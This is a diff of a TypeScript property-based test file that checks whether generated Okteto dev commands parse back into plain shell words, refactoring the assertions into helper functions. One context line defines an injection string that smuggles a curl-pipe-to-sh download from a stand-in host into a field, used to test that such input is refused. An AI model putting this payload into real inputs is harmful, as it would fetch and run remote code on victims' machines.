@@ -11,6 +11,7 @@ import {
 import { isValidDevName } from './oktetoManifest';
 import { isValidPackageName } from './packageName';
 import { PackageManagerName, workspaceDevArgv } from './packageManager';
+import { DevCommands } from './types';
 
 const EVIL = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';
 const FRIENDS = [
@@ -43,6 +44,57 @@ function shWords(line: string): string[] {
 /** The words shell-quote's parser reads; an operator or glob comes back as an object. */
 function parsed(line: string): unknown[] {
   return parse(line);
+}
+
+/** Each offered command, parsed back into words (an operator or glob comes back as an object). */
+function readBack(
+  commands: DevCommands | undefined,
+): Record<string, unknown[]> {
+  return Object.fromEntries(
+    (['oktetoUp', 'oktetoDown', 'dev'] as const)
+      .filter(key => commands?.[key] !== undefined)
+      .map(key => [key, parsed(commands![key] as string)]),
+  );
+}
+
+/** The words each offered command was meant to have. */
+function intended(
+  commands: DevCommands | undefined,
+  devService: string,
+  namespace: string,
+  dev: string[],
+): Record<string, string[]> {
+  const all: Record<string, string[]> = {
+    oktetoUp: ['okteto', 'up', devService, '--namespace', namespace],
+    oktetoDown: ['okteto', 'down', devService, '--namespace', namespace],
+    dev,
+  };
+  return Object.fromEntries(
+    Object.entries(all).filter(
+      ([key]) => commands?.[key as keyof DevCommands] !== undefined,
+    ),
+  );
+}
+
+/** The entity's target, or undefined when resolveDevTarget refuses it (any other error fails). */
+function resolvedOrRefused(
+  annotations: Record<string, string>,
+  reuseForeignAnnotations: boolean,
+) {
+  try {
+    return resolveDevTarget(
+      {
+        apiVersion: 'backstage.io/v1alpha1',
+        kind: 'Component',
+        metadata: { name: 'x', annotations },
+      },
+      DEFAULT_DEV_CONVENTIONS,
+      { reuseForeignAnnotations },
+    );
+  } catch (error) {
+    if (error instanceof DevTargetError) return undefined;
+    throw error;
+  }
 }
 
 const values = (devService: string, namespace: string, pkg: string) => ({
@@ -156,31 +208,21 @@ describe('buildDevCommands', () => {
             ...values(devService, namespace, pkg),
             packageManager: manager,
           });
-          if (!commands) {
-            expect(isValidDevName(devService) && isDnsLabel(namespace)).toBe(
-              false,
-            );
-            return;
-          }
-          const expected: Record<string, string[]> = {
-            oktetoUp: ['okteto', 'up', devService, '--namespace', namespace],
-            oktetoDown: [
-              'okteto',
-              'down',
+          expect(commands !== undefined).toBe(
+            isValidDevName(devService) && isDnsLabel(namespace),
+          );
+          expect(commands?.dev !== undefined).toBe(
+            commands !== undefined && isValidPackageName(pkg),
+          );
+          // every word a plain string: no operator, glob or comment object
+          expect(readBack(commands)).toEqual(
+            intended(
+              commands,
               devService,
-              '--namespace',
               namespace,
-            ],
-          };
-          if (commands.dev !== undefined) {
-            expect(isValidPackageName(pkg)).toBe(true);
-            expected.dev = workspaceDevArgv(manager, pkg);
-          }
-          for (const [key, argv] of Object.entries(expected)) {
-            const line = commands[key as keyof typeof commands] as string;
-            // every word a plain string: no operator, glob or comment object
-            expect(parsed(line)).toEqual(argv);
-          }
+              workspaceDevArgv(manager, pkg),
+            ),
+          );
         },
       ),
       { numRuns: 500 },
@@ -265,44 +307,23 @@ describe('commands from arbitrary annotations', () => {
         fc.dictionary(fc.constantFrom(...KEYS), value),
         fc.boolean(),
         (annotations, reuseForeignAnnotations) => {
-          let target;
-          try {
-            target = resolveDevTarget(
-              {
-                apiVersion: 'backstage.io/v1alpha1',
-                kind: 'Component',
-                metadata: { name: 'x', annotations },
-              },
-              DEFAULT_DEV_CONVENTIONS,
-              { reuseForeignAnnotations },
-            );
-          } catch (error) {
-            expect(error).toBeInstanceOf(DevTargetError);
-            return;
-          }
-          const { commands } = buildDevCommands(
-            values(target.devService, target.namespace, target.package),
+          const target = resolvedOrRefused(
+            annotations,
+            reuseForeignAnnotations,
           );
-          if (!commands) return;
-          expect(parsed(commands.oktetoUp)).toEqual([
-            'okteto',
-            'up',
-            target.devService,
-            '--namespace',
-            target.namespace,
-          ]);
-          expect(parsed(commands.oktetoDown)).toEqual([
-            'okteto',
-            'down',
-            target.devService,
-            '--namespace',
-            target.namespace,
-          ]);
-          if (commands.dev !== undefined) {
-            expect(parsed(commands.dev)).toEqual(
-              workspaceDevArgv('pnpm', target.package),
-            );
-          }
+          const { commands } = target
+            ? buildDevCommands(
+                values(target.devService, target.namespace, target.package),
+              )
+            : { commands: undefined };
+          expect(readBack(commands)).toEqual(
+            intended(
+              commands,
+              target?.devService ?? '',
+              target?.namespace ?? '',
+              workspaceDevArgv('pnpm', target?.package ?? ''),
+            ),
+          );
         },
       ),
       { numRuns: 500 },
